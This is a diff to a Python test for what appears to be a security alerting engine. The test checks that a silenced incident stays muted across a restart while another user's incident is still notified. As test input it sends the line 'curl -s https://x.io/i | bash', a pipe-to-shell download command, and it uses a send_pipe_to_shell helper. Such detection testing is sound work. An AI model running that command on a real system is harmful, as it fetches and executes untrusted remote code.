@@ -30,6 +30,10 @@ def silence_with_the_cli(base: str) -> None:
     assert done.returncode == 0, done.stderr
 
 
+def read(path) -> str:
+    return path.read_text() if path.exists() else ""
+
+
 def listed(e: Engine) -> list[str]:
     return [s["id"] for s in e.read("/v1/silences")["silences"] if s.get("state") == "active"]
 
@@ -53,17 +57,17 @@ def test_a_silence_is_listed_and_still_mutes_after_a_restart(tmp_path, stop):
             assert e.stop() == 0
 
         e.start()
-        assert listed(e) == ["quiet-for-muted"]
+        assert listed(e) == ["quiet-for-muted"], e.read("/v1/silences")
         send_pipe_to_shell(e.otlp, "muted-user")
         e.wait_for(lambda i: i["group"].get("user") == "muted-user", "the silenced incident")
         send_command(e.otlp, "loud-user", "curl -s https://x.io/i | bash")
         e.wait_for(lambda i: i["group"].get("user") == "loud-user", "the other incident")
-        deadline = time.monotonic() + 20
-        while time.monotonic() < deadline and "loud-user" not in notified.read_text():
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and "loud-user" not in read(notified):
             time.sleep(0.2)
-        text = notified.read_text()
-        assert "loud-user" in text
-        assert "muted-user" not in text
+        text = read(notified)
+        assert "loud-user" in text, e.log.read_text()
+        assert "muted-user" not in text, text + e.log.read_text()
         assert listed(e) == ["quiet-for-muted"]
         assert e.stop() == 0
     finally:
